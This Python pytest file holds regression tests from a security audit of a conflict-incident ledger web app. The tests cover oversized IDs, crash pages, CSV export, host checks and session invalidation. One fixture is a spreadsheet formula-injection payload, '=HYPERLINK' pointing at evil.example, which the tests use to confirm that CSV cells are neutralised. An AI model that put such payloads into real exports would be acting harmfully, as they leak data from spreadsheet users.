"""Findings of the security audit of the explorer and review (each test failed before its fix):
headers on a crash's 500, integers too large for the database, and the other edges below."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

import web_ledger
from shahid.link.store import link_store
from shahid.review import users
from shahid.store import open_store
from shahid.web import create_app
from shahid.web.app import CSP
from test_review import REPORTS, _ingest
from test_web_review import PASSWORDS, SAME, _client, _incident, _log_count, _row


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Any:
    path: Path = web_ledger.build(tmp_path_factory.mktemp("audit") / "ledger.db", dev_reports=0)
    s = open_store(path)
    yield s
    s.close()


@pytest.fixture(scope="module")
def client(store: Any) -> TestClient:
    return TestClient(create_app(store), raise_server_exceptions=False)


HUGE = "9" * 30  # far above SQLite's and PostgreSQL's 64-bit integers


@pytest.mark.parametrize("path", [
    f"/incidents?page={HUGE}", f"/incidents.json?page={HUGE}", f"/incidents.json?min_originators={HUGE}",
    f"/incidents.csv?min_documents={HUGE}", f"/timeline.json?min_originators={HUGE}",
    f"/claims?after={HUGE}", f"/claims.json?after={HUGE}", f"/claims/{HUGE}", f"/claims/{HUGE}.json",
    f"/places/SY07?page={HUGE}", f"/sources/sohr.json?page={HUGE}",
])
def test_an_integer_too_large_is_a_bad_request_not_a_crash(client: TestClient, path: str) -> None:
    r = client.get(path)
    assert r.status_code in (400, 404), (path, r.status_code, r.text[:200])
    assert r.headers.get("content-security-policy") == CSP, path


def test_a_crash_is_a_500_page_with_the_security_headers(store: Any) -> None:
    app = create_app(store)

    @app.get("/boom.json")
    def boom() -> None:
        raise RuntimeError("secret detail <script>")

    r = TestClient(app, raise_server_exceptions=False).get("/boom.json")
    assert r.status_code == 500
    assert r.headers.get("content-security-policy") == CSP
    assert r.headers.get("x-content-type-options") == "nosniff"
    assert "secret detail" not in r.text  # the exception stays in the server's log


# -- review: ids and offsets a reviewer may send ---------------------------------------------------



@pytest.fixture
def rv(tmp_path: Path) -> Any:
    """A ledger of the review tests' reports, linked, with a viewer, a reviewer and an admin."""
    store = open_store(tmp_path / "review.db")
    docs = _ingest(store, REPORTS)
    link_store(store)
    for role, pw in PASSWORDS.items():
        users.add_user(store, role, role, pw)
    yield store, docs
    store.close()


def test_review_writes_with_an_id_too_large_are_400_and_write_nothing(rv: Any) -> None:
    store, docs = rv
    reviewer = _client(store, "reviewer")
    c1 = _row(store, docs[0], "c1")
    inc = _incident(store, c1)
    before = _log_count(store)
    for path, body in [(f"/claims/{HUGE}/review", {"action": "confirm"}),
                       (f"/claims/{c1}/review", {"action": "move", "incident": HUGE}),
                       (f"/incidents/{inc}/review", {"action": "merge", "with": HUGE}),
                       (f"/incidents/{inc}/review", {"action": "move", "claim": int(HUGE), "to": "new"}),
                       (f"/incidents/{HUGE}/review", {"action": "merge", "with": inc})]:
        r = reviewer.post(path, json=body, headers=SAME)
        assert r.status_code == 400, (path, body, r.status_code, r.text[:200])
    for q in (f"page={HUGE}", "page=0", "page=-3"):
        assert reviewer.get(f"/review.json?{q}").status_code == 400, q
    assert _log_count(store) == before


def test_a_span_of_fractional_or_boolean_offsets_is_refused(rv: Any) -> None:
    store, docs = rv
    reviewer = _client(store, "reviewer")
    c1 = _row(store, docs[0], "c1")
    before = _log_count(store)
    for span in ([1.5, 3.7], [True, 3], {"start": 0.0, "end": 4.0}):
        r = reviewer.post(f"/claims/{c1}/review", json={"action": "correct", "field": "date", "value": "2013-01-01",
                                                        "span": span}, headers=SAME)
        assert r.status_code == 400 and "span" in r.json()["error"], (span, r.text)
    # the same offsets as whole numbers (a form sends them as digits) are a span
    r = reviewer.post(f"/claims/{c1}/review", data={"action": "correct", "field": "date", "value": "2013-01-01",
                                                     "start": "1", "end": "3"}, headers=SAME)
    assert r.status_code == 303, r.text
    assert _log_count(store) == before + 1


# -- CSV: a cell a spreadsheet would run as a formula ------------------------------------------------

FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?leak","open")'
FORMULA_TEXT = "- قتل 5 مدنيين في قصف لقوات النظام على بلدة كفرنبل في ريف إدلب اليوم."


@pytest.fixture(scope="module")
def formula_ledger(tmp_path_factory: pytest.TempPathFactory) -> Any:
    import json

    from shahid.ingest import ingest

    d = tmp_path_factory.mktemp("formula")
    rec = d / "formula.jsonl"
    rec.write_text(json.dumps({"text": FORMULA_TEXT, "outlet": FORMULA_OUTLET, "published": "2013-02-11",
                               "title": "@SUM(1+1)"}, ensure_ascii=False) + "\n", encoding="utf-8")
    s = open_store(d / "ledger.db")
    ingest([rec], s)
    link_store(s)
    yield s
    s.close()


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_cells_that_would_run_as_formulas_are_written_as_text(formula_ledger: Any, capsys: Any) -> None:
    from shahid.export import csv_cell, write_acled_csv
    from shahid.store import iter_claims
    from shahid.store.query import ClaimFilter
    from test_ingest import cli

    # the web's incident CSV: the outlet is the originator, first in the source cell
    rows = _csv_rows(TestClient(create_app(formula_ledger)).get("/incidents.csv").text)
    assert rows, "the formula document made an incident"
    assert rows[0]["source"] == "'" + FORMULA_OUTLET
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    # the claim export: the outlet (source) and the evidence sentence (notes), which begins with "-"
    buf = io.StringIO()
    write_acled_csv(iter_claims(formula_ledger, ClaimFilter()), buf)
    claims = _csv_rows(buf.getvalue())
    assert claims and claims[0]["source"].startswith("'" + FORMULA_OUTLET)
    notes = claims[0]["notes"]
    assert notes.startswith("'- قتل 5") and notes[1:].split(" [Place: ")[0] in FORMULA_TEXT  # evidence, then the place
    # `shahid claims --format csv`
    assert cli("claims", "--db", formula_ledger.url.render_as_string(), "--format", "csv") == 0
    listed = _csv_rows(capsys.readouterr().out)
    assert listed and listed[0]["outlet"] == "'" + FORMULA_OUTLET, listed[0]
    assert listed[0]["evidence"].startswith("'- قتل 5")
    # numbers are numbers: a negative latitude, a signed count
    assert csv_cell("-33.51") == "-33.51" and csv_cell(-33.51) == -33.51 and csv_cell("+5") == "+5"
    assert csv_cell("-") == "'-" and csv_cell("@x") == "'@x" and csv_cell("\tx") == "'\tx" and csv_cell("") == ""
    assert csv_cell("حلب") == "حلب" and csv_cell(None) is None


# -- issue 10's contract: every object of a JSON twin that has a page carries its url ----------------


def _without_url(obj: Any, path: str = "") -> list[str]:
    """Paths of objects naming a claim (row_id), a place (place_id) or a document (doc_id) with no url."""
    out = []
    if isinstance(obj, dict):
        if ({"row_id", "place_id"} & set(obj)) and "url" not in obj:
            out.append(path)
        for k, v in obj.items():
            if k not in ("filters", "links"):
                out += _without_url(v, f"{path}.{k}")
    elif isinstance(obj, list):
        for v in obj:
            out += _without_url(v, f"{path}[]")
    return out


def test_every_claim_and_place_in_a_json_twin_carries_its_url(store: Any, client: TestClient) -> None:
    from shahid.link import query as lq

    inc = next(i for i in lq.iter_incidents(store) if any(c.get("place_id") for c in i["claims"]))
    row = next(c["row_id"] for c in inc["claims"] if c.get("place_id"))
    doc = next(c["doc_id"] for c in inc["claims"] if c.get("place_id"))
    for path in ("/incidents.json", f"/incidents/{inc['key']}.json", "/claims.json", f"/claims/{row}.json",
                 f"/documents/{doc}.json", "/places/SY07.json"):
        j = client.get(path).json()
        assert not _without_url(j), (path, sorted(set(_without_url(j))))
    loc = client.get(f"/claims/{row}.json").json()["claim"]["location"]
    assert loc["url"] == f"/places/{loc['place_id']}" and client.get(loc["url"]).status_code == 200


def test_the_review_queue_and_place_search_carry_urls(rv: Any) -> None:
    store, _ = rv
    reviewer = _client(store, "reviewer")
    q = reviewer.get("/review.json").json()
    assert q["items"] and all(i["url"] == f"/claims/{i['row_id']}" for i in q["items"])
    places = reviewer.get("/review/places.json", params={"q": "إدلب"}).json()["places"]
    assert places and all(p["url"] == f"/places/{p['place_id']}" for p in places)


def test_private_mode_opens_the_login_page_itself_not_every_path_beginning_with_it(rv: Any) -> None:
    store, _ = rv
    c = _client(store, private=True)
    assert c.get("/login").status_code == 200 and c.get("/static/review.js").status_code == 200
    for path in ("/login.json", "/loginx", "/login/anything"):  # no such page: the wall, not a 404
        r = c.get(path)
        assert r.status_code in (303, 401), (path, r.status_code)


def test_a_host_not_allowed_is_refused_dns_rebinding(store: Any) -> None:
    from shahid.commands.serve import allowed_hosts

    assert allowed_hosts("127.0.0.1", None) == ["127.0.0.1", "localhost"]
    assert allowed_hosts("0.0.0.0", None) is None and allowed_hosts("127.0.0.1", ["shahid.example"]) == [
        "shahid.example"]
    app = create_app(store, allowed_hosts=allowed_hosts("127.0.0.1", None))
    for base in ("http://127.0.0.1:8000", "http://localhost:8000"):
        assert TestClient(app, base_url=base).get("/.json").status_code == 200, base
    # a page at rebind.example whose name now resolves to 127.0.0.1: its requests say Host: rebind.example
    r = TestClient(app, base_url="http://rebind.example:8000").get("/.json")
    assert r.status_code == 400 and r.headers.get("content-security-policy") == CSP
    assert TestClient(create_app(store), base_url="http://rebind.example").get("/.json").status_code == 200


def test_a_new_password_ends_the_sessions_made_with_the_old_one(rv: Any) -> None:
    store, docs = rv
    stolen = _client(store, "reviewer")  # a session someone else also holds (a copied cookie)
    other = _client(store, "admin")
    c1 = _row(store, docs[0], "c1")
    assert stolen.get("/review.json").status_code == 200
    users.set_password(store, "reviewer", "a brand new passphrase")  # `shahid users password reviewer`
    assert stolen.get("/review.json").status_code == 401
    assert stolen.post(f"/claims/{c1}/review", json={"action": "confirm"}, headers=SAME).status_code == 401
    assert other.get("/review.json").status_code == 200  # another account's session goes on
    again = TestClient(create_app(store), follow_redirects=False)
    r = again.post("/login", data={"name": "reviewer", "password": "a brand new passphrase"}, headers=SAME)
    assert r.status_code == 303 and again.get("/review.json").status_code == 200


def test_every_page_links_its_json_twin_with_the_same_query_and_the_list_its_clear_filter(
        store: Any, client: TestClient, rv: Any) -> None:
    from lxml import html as lhtml

    from shahid.link import query as lq

    origs = sorted({o["id"] for inc in lq.iter_incidents(store)
                    for o in inc["originators"]})
    for path, query in [("/incidents", "event=shelling&min_originators=1"), ("/claims", "event=shelling"),
                        ("/places/SY07", "page=2"), (f"/sources/{origs[0]}", "page=2")]:
        r = client.get(f"{path}?{query}")
        assert r.status_code == 200, (path, r.status_code)
        twins = lhtml.fromstring(r.text).xpath("//a[text()='JSON']/@href")
        assert twins and all(t == f"{path}.json?{query}" for t in twins), (path, twins)
    clear = lhtml.fromstring(client.get("/incidents?event=shelling").text).xpath("//form//a[text()='clear']/@href")
    assert clear == ["/incidents"], clear  # was the repr of dict.clear: links.clear is the method
    rstore, _ = rv
    reviewer = _client(rstore, "reviewer")
    twins = lhtml.fromstring(reviewer.get("/review?outlet=x&since=2013-01-01").text).xpath("//a[text()='JSON']/@href")
    assert twins == ["/review.json?outlet=x&since=2013-01-01"], twins


def test_the_review_queue_twin_matches_its_openapi_schema(rv: Any) -> None:
    from jsonschema import Draft202012Validator

    store, _ = rv
    reviewer = _client(store, "reviewer")
    spec = reviewer.get("/openapi.json").json()
    schema = spec["paths"]["/review.json"]["get"]["responses"]["200"]["content"]["application/json"]["schema"]
    assert schema, "no schema for /review.json"
    v = Draft202012Validator({**schema, "components": spec["components"]})
    body = reviewer.get("/review.json?outlet=").json()
    assert body["items"]
    v.validate(body)
    assert not v.is_valid({**body, "items": [{"row_id": 1}]})  # the schema can fail
